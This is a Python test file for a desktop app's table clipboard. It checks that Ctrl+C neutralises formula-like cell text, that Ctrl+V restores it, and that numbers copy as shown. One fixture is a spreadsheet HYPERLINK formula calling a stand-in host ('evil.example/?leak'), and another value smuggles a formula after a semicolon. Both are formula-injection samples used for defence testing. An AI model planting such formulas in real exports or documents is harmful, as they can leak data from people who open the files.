"""Ctrl+C in the window neutralises formula-like text exactly as the exports do (the same core
function), numbers stay numbers, and Ctrl+V of such a copy gives back the text as it was."""

from __future__ import annotations

from PySide6.QtCore import QSettings, Qt
from PySide6.QtWidgets import QApplication

from opcc_desktop.areas import services
from opcc_desktop.exchange.cells import neutralise_delimited
from ui.clipboard import GuardedClipboard
from ui.context import AppContext
from ui.table_model import Column, RowsModel
from ui.table_view import DataTable
from ui.tabs.services import ServicesTab

LINK = '=HYPERLINK("http://evil.example/?leak","Click me")'
SPLIT = "Refuge;=1+2"


def services_tab(qtbot, wb, tmp_path) -> ServicesTab:  # type: ignore[no-untyped-def]
    context = AppContext(QSettings(str(tmp_path / "ui.ini"), QSettings.Format.IniFormat))
    context.attach(wb, "passphrase")
    tab = ServicesTab(context, GuardedClipboard())
    qtbot.addWidget(tab, before_close_func=lambda _closing, kept=tab: None)
    tab.show()
    return tab


def press(qtbot, widget, key: Qt.Key) -> None:  # type: ignore[no-untyped-def]
    qtbot.keyClick(widget, key, Qt.KeyboardModifier.ControlModifier)


def test_ctrl_c_of_a_formula_cell_puts_inert_text_on_the_clipboard(qtbot, wb, tmp_path):
    services.add_service(wb, {"name": LINK, "service_type": SPLIT, "first_year": "2021/22"})
    tab = services_tab(qtbot, wb, tmp_path)
    table = tab.service_table
    table.setFocus()
    table.selectAll()
    press(qtbot, table, Qt.Key.Key_C)
    cells = QApplication.clipboard().text().split("\t")
    assert cells[:3] == [neutralise_delimited(LINK), neutralise_delimited(SPLIT), "2021/22"]
    assert cells[0] == "'" + LINK and cells[1] == "Refuge;'=1+2"
    assert not any(cell.lstrip(" \"").startswith(("=", "+", "-", "@")) for cell in cells)


def test_ctrl_v_of_that_copy_gives_the_text_back(qtbot, wb, tmp_path):
    services.add_service(wb, {"name": "Harbour", "service_type": SPLIT})
    services.add_service(wb, {"name": "Arch", "service_type": "Advocacy"})
    tab = services_tab(qtbot, wb, tmp_path)
    table = tab.service_table
    table.setFocus()
    table.setCurrentIndex(table.model().index(0, 1))
    table.selectionModel().select(table.currentIndex(), table.selectionModel().SelectionFlag.ClearAndSelect)
    press(qtbot, table, Qt.Key.Key_C)
    assert QApplication.clipboard().text() == "Refuge;'=1+2"
    table.setCurrentIndex(table.model().index(1, 1))
    press(qtbot, table, Qt.Key.Key_V)
    assert [s["service_type"] for s in services.services(wb)] == [SPLIT, SPLIT]


def test_numbers_are_copied_as_shown(qtbot):
    model = RowsModel([Column("what", "What"), Column("change", "Change", numeric=True)])
    model.load([{"what": "-5 on last year", "change": -5}])
    table = DataTable(model, "Figures")
    qtbot.addWidget(table)
    table.selectAll()
    press(qtbot, table, Qt.Key.Key_C)
    assert QApplication.clipboard().text() == "'-5 on last year\t-5"
